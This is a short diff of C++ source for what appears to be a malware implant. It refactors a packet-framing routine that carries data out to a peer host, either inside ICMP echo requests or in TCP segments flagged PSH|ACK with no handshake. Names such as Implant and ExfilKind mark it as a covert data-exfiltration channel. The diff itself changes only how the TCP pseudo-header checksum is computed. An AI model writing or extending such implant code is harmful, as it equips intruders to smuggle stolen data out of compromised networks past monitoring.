@@ -118,7 +118,6 @@ std::vector<std::byte> Implant::frame_for(std::uint32_t sequence, std::size_t da
     std::byte* l4 = ip + net::kIpv4HeaderBytes;
     std::copy(data.begin(), data.end(), l4 + header);
     const std::size_t l4_bytes = header + data.size();
-    std::uint32_t pseudo = 0;
     if (plan_.kind == ExfilKind::Icmp) {
         l4[0] = std::byte{8};  // echo request; identifier = the port, sequence = ours
         net::put16(l4 + 4, plan_.port);
@@ -132,8 +131,8 @@ std::vector<std::byte> Implant::frame_for(std::uint32_t sequence, std::size_t da
         l4[12] = std::byte{5 << 4};  // 20-byte header
         l4[13] = std::byte{0x18};    // PSH | ACK: data, no handshake
         net::put16(l4 + 14, 65535);
-        pseudo = (self_ip >> 16) + (self_ip & 0xffff) + (plan_.peer_ip >> 16) +
-                 (plan_.peer_ip & 0xffff) + kIpProtocolTcp + static_cast<std::uint32_t>(l4_bytes);
+        const std::uint32_t pseudo = net::pseudo_header_sum(self_ip, plan_.peer_ip, kIpProtocolTcp,
+                                                            static_cast<std::uint32_t>(l4_bytes));
         net::put16(l4 + 16, net::internet_checksum({l4, l4_bytes}, pseudo));
     }
     return f;
